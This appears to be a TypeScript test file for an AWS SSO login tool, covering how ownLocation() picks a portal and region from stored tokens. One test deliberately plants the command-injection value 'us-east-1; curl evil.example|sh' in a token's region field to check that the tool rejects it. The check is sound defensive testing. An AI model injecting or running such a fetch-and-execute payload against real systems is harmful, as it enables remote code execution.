import { describe, expect, test } from "bun:test";
import { ownLocation } from "../../src/sso/own-login.ts";
import { ownTokenPath, portals, storeImportedToken } from "../../src/sso/own-token-cache.ts";
import type { PortalChoice } from "../../src/sso/portal-choice.ts";
import { failureOf } from "../support/failure.ts";
import { noSealing } from "../support/fake-key-store.ts";
import { fakeSystem } from "../support/fake-system.ts";
import { memoryFiles } from "../support/memory-files.ts";

const startUrl = "https://d-1234567890.awsapps.com/start";
const folder = "/home/me/.aws-login";
const token = { accessToken: "t", expiresAt: "2030-01-31T13:00:00Z", startUrl, region: "eu-west-1" };
type OwnPortal = Extract<PortalChoice, { kind: "own" }>;

function open(choice: OwnPortal, { files = memoryFiles() } = {}) {
  const system = fakeSystem({ instead: files });
  return { location: ownLocation(choice, { system, home: "/home/me", nrt: false, prompt: "allowed" }) };
}

describe("ownLocation()", () => {
  test("ownLocation() takes the portal used last, and the region of its token", async () => {
    const files = memoryFiles();
    await storeImportedToken(files, folder, "https://other.awsapps.com/start", token, {}, noSealing);
    await storeImportedToken(files, folder, startUrl, token, {}, noSealing);
    const { location } = open({ kind: "own", startUrl: undefined, region: undefined }, { files });
    expect(await location).toMatchObject({ startUrl, region: "eu-west-1", given: false });
    expect((await location).loginHint).toBe(
      `sign in with: aws-login login --start-url ${startUrl} --sso-region eu-west-1`,
    );
    expect(files.log).toContain(`check ${folder}`);
  });

  test("ownLocation() remembers the portal of a new sign-in", async () => {
    const files = memoryFiles();
    await (await open({ kind: "own", startUrl, region: undefined }, { files }).location).loggedIn();
    expect(await portals(files, folder)).toEqual([startUrl]);
  });

  test("ownLocation() says how to sign in when no portal was ever used", async () => {
    const failure = await failureOf(
      () => open({ kind: "own", startUrl: undefined, region: undefined }).location,
    );
    expect(failure.kind).toBe("sign-in-needed");
    expect(failure.hints.join()).toContain("importcache");
  });

  test("ownLocation() refuses another region than the stored one", async () => {
    const files = memoryFiles();
    await storeImportedToken(files, folder, startUrl, token, {}, noSealing);
    const { location } = open({ kind: "own", startUrl, region: "us-east-1" }, { files });
    expect((await failureOf(() => location)).kind).toBe("usage");
    const same = open({ kind: "own", startUrl, region: "eu-west-1" }, { files });
    expect((await same.location).region).toBe("eu-west-1");
  });

  test("ownLocation() takes the region that a login found where a company's own host leads", async () => {
    const files = memoryFiles();
    const own = "https://aws.example.com/start";
    await storeImportedToken(files, folder, own, { ...token, startUrl: own }, {}, noSealing);
    const { location } = open({ kind: "own", startUrl: own, region: "us-east-1" }, { files });
    expect((await location).region).toBe("eu-west-1");
  });

  test("ownLocation() refuses a stored region that is none, and names the file", async () => {
    const files = memoryFiles();
    const crafted = { ...token, region: "us-east-1; curl evil.example|sh" };
    await storeImportedToken(files, folder, startUrl, crafted, {}, noSealing);
    const failure = await failureOf(
      () => open({ kind: "own", startUrl, region: undefined }, { files }).location,
    );
    expect(failure.message).toStartWith(
      `cannot use the region of the sign-in in ${ownTokenPath(folder, startUrl)}: `,
    );
  });
});
